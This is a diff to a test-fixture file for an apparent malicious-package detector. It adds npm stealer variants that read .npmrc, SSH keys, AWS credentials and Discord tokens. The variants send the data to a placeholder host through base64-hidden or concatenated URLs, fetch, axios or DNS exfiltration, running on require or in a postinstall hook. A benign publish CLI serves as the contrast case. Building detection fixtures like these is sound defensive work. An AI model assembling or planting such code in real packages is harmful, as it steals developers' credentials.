@@ -3,7 +3,7 @@ written the ways real stealers write them so that no literal URL sits inside the
 the engine only reads text. Each must reach high; the benign look-alikes must stay low.
 """
 
-from .techniques import HOOK, setup_py
+from .techniques import HOOK, pkg_json, setup_py
 
 # What is read: (label, code reading it into `data`).
 READS = {
@@ -127,5 +127,59 @@ BENIGN = {
             "    return cfg[name]\n\n"
             "def report(status):\n"
             "    return requests.post(ENDPOINT + '/status', json=status)\n"),
+    },
+}
+
+
+# npm: the same theft in the package's main file (runs on require) and in a postinstall script.
+JS_READS = {
+    "npmrc": "const d = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n",
+    "ssh_key": "const d = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\n",
+    "aws_creds": "const d = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');\n",
+    "discord_tokens": ("const p = path.join(process.env.APPDATA, 'discord', 'Local Storage', 'leveldb');\n"
+                       "const d = fs.readdirSync(p).map(f => fs.readFileSync(path.join(p, f), 'latin1')).join('');\n"),
+}
+JS_DESTS = {
+    "constant": "const U = 'https://api.telemetry-sync.example/c';\n",
+    "b64": "const U = Buffer.from('aHR0cHM6Ly9hcGkudGVsZW1ldHJ5LXN5bmMuZXhhbXBsZS9j', 'base64').toString();\n",
+    "concat": "const H = 'api.telemetry-sync.example';\nconst U = 'https' + '://' + H + '/c';\n",
+    "second_module": "const { U } = require('./config');\n",
+}
+JS_SENDS = {
+    "https": "const r = https.request(U, { method: 'POST' });\nr.write(d);\nr.end();\n",
+    "fetch": "fetch(U, { method: 'POST', body: d });\n",
+    "axios": "const axios = require('axios');\naxios.post(U, { d });\n",
+    "dns": ("const dns = require('dns');\n"
+            "dns.resolve(Buffer.from(d.slice(0, 30)).toString('hex') + '.' + new URL(U).hostname, () => {});\n"),
+}
+
+
+def js_variants() -> dict[str, dict[str, str]]:
+    head = "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');\n"
+    out = {}
+    for read in JS_READS:
+        for dest in JS_DESTS:
+            for send in JS_SENDS:
+                body = head + JS_DESTS[dest] + JS_READS[read] + JS_SENDS[send]
+                config = {"config.js": "module.exports.U = 'https://api.telemetry-sync.example/c';\n"}
+                out[f"main-{read}-{dest}-{send}"] = {"package.json": pkg_json("x-util"), "index.js": body, **config}
+                out[f"postinstall-{read}-{dest}-{send}"] = {
+                    "package.json": pkg_json("x-util", {"postinstall": "node setup.js"}), "setup.js": body,
+                    "index.js": "module.exports = 1;\n", **config}
+    return out
+
+
+# A publishing CLI reading the user's .npmrc when asked and posting to the registry it names.
+JS_BENIGN = {
+    "publish_cli": {
+        "package.json": pkg_json("tiny-publish", bin={"tiny-publish": "cli.js"}),
+        "cli.js": (
+            "const fs = require('fs'), os = require('os'), path = require('path');\n"
+            "const REGISTRY = 'https://registry.npmjs.org';\n\n"
+            "function token() {\n"
+            "  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
+            "  return (rc.match(/_authToken=(.+)/) || [])[1];\n}\n\n"
+            "module.exports.publish = (name, body) =>\n"
+            "  fetch(REGISTRY + '/' + name, { method: 'PUT', body, headers: { authorization: 'Bearer ' + token() } });\n"),
     },
 }
